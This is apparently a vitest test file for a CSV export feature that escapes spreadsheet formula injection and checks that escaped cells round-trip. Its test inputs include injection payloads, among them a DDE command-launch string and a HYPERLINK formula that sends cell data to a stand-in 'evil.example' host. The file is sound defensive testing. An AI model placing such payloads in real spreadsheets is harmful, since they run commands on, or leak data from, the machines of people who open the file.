import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { toCsv } from '../../src/features/exports/csv.ts'
import { neutralise, restore } from '../../src/shared/formula-text.ts'

describe('a text that a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '+33612345678',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\nx',
    '  =cmd|" /C calc"!A0',
    '＝1+1',
    "'=1",
    '=HYPERLINK("https://evil.example?"&A1)',
  ])('%j gets an apostrophe, and is given back as it was', (text) => {
    expect(neutralise(text)).toBe(`'${text}`)
    expect(restore(neutralise(text))).toBe(text)
  })

  test.each(['Hermès', '38', '38.5', "L'Été", "'quoted'", '', 'a=b', 'x-y', '1-BLA', 'a@b.fr'])(
    '%j is left alone',
    (text) => {
      expect(neutralise(text)).toBe(text)
      expect(restore(text)).toBe(text)
    },
  )

  test('whatever is written comes back', () => {
    const text = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n \'"a;,1é＝') })
    fc.assert(fc.property(text, (one) => restore(neutralise(one)) === one))
  })
})

test('numbers stay numbers, also below zero, and nothing is an empty cell', () => {
  expect(toCsv([[-2, 5, 12.5, null, '-2']])).toBe("-2,5,12.5,,'-2\r\n")
})

test('every table can be read again as RFC 4180 has it', () => {
  const cell = fc.string({ unit: fc.constantFrom(...'ab,;"\n\r\té ') })
  const table = fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { minLength: 1 })
  fc.assert(
    fc.property(table, (records) => {
      const read: string[][] = parse(toCsv(records), { record_delimiter: '\r\n' })
      expect(read.map((cells) => cells.map(restore))).toEqual(records)
    }),
  )
})
